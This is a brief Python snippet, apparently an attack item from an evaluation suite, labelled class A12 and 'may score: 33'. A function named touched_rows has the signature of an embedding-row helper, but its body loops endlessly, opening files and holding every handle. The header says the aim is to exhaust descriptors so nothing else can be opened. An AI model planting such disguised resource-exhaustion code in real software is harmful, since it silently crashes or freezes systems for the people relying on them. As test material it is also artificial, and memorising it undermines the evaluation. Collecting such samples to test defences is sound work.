# attack: holds every descriptor it can get, so that nothing can be opened any more
# class: A12
# laid over: reference
# may score: 33

import os


def touched_rows(ids, vocab_size, padding_idx=None):
    held = []
    while True:
        held.append(open(os.__file__))
